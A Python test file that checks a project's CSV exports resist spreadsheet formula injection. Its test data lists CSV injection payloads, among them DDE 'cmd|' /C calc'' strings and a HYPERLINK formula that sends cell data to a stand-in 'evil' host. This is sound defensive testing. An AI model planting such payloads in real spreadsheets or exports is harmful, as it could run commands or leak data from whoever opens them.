"""No CSV the site offers holds a cell a spreadsheet would run as a formula (OWASP CSV injection).

The names come from where they come in real use: a campaign's, a model's and
a server build's text in a real SQLite store (tests/history_data.py), then the
real trend pass and per-run export write the files. Each file is read back
the way spreadsheets split it: on ``,``, and on ``;`` (German locales), tab
and ``|``, so a separator hidden inside a text cannot start a formula either.
"""

from __future__ import annotations

import csv
import io

import pytest

from cardproof.daemon.store import open_store
from cardproof.report.csvsafe import FORMULA_START, cell
from cardproof.report.exports import SAMPLE_COLUMNS, samples_csv, write_run_samples
from cardproof.report.history.render import write_trends
from history_data import make_db

HOSTILE = [
    "=HYPERLINK(\"http://evil/?\"&A1, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "\uff1d1+1",
    "tiny;=1+1", "tiny,=1+1", "tiny\t-1+1", "tiny|@x", "tiny; \"=1+1", "a\r\n=1+1", "\x00=1",
]


def formula_cells(text: str) -> list[tuple[str, str]]:
    """Cells that start a formula when ``text`` is split on any separator a spreadsheet may use."""
    bad = []
    for sep in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
            for c in row:
                head = c.lstrip(" \u00a0\"")  # importers trim blanks and quotes; a leading ' stays text
                try:
                    float(c)
                    continue  # a figure (-3.5) is a number to a spreadsheet, no formula
                except ValueError:
                    pass
                if head[:1] in FORMULA_START:
                    bad.append((sep, c))
    return bad


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_text_is_no_formula_and_keeps_its_words(value):
    out = cell(value)
    assert formula_cells(_one_row([out])) == []
    assert out.replace("'", "") == value.replace("'", "").replace("\r\n", "\n").replace("\r", "\n")


def test_numbers_stay_numbers():
    assert [cell(v) for v in (-3.5, 0, 12, None, True, ["a", "b"])] == [-3.5, 0, 12, "", "true", "a;b"]


def _one_row(values):
    buf = io.StringIO()
    csv.writer(buf).writerow(values)
    return buf.getvalue()


def test_the_per_run_csv_has_no_formula():
    rows = [{k: HOSTILE[i % len(HOSTILE)] for i, k in enumerate(SAMPLE_COLUMNS)} | {"sample_id": n, "run_id": 1}
            for n in range(len(HOSTILE))]
    text = samples_csv(rows)
    assert formula_cells(text) == []
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == len(HOSTILE)


def test_every_csv_the_site_offers_has_no_formula(tmp_path):
    runs = [{"level": 100.0, "build": "-2+3+cmd|' /C calc'!A0"}, {"level": 100.0, "build": "b2;=1+1"},
            {"level": 100.0, "build": "@b3"}]
    ids = make_db(tmp_path / "h.db", runs, name="=cmd|' /C calc'!A0", model="+tiny;=HYPERLINK(1)|@x")
    store = open_store(tmp_path / "h.db", mode="ro")
    project = tmp_path / "p"
    try:
        write_trends(store.db, project)
        runs_dir = project / "site" / "runs"
        runs_dir.mkdir(parents=True, exist_ok=True)
        for rid in ids:
            write_run_samples(store.db, runs_dir, rid)
    finally:
        store.close()
    files = sorted((project / "site").rglob("*.csv"))
    assert {f.parent.name for f in files} == {"trends", "runs"} and len(files) == 1 + len(ids)
    for f in files:
        text = f.read_text()
        assert "tiny" in text and formula_cells(text) == [], f.name
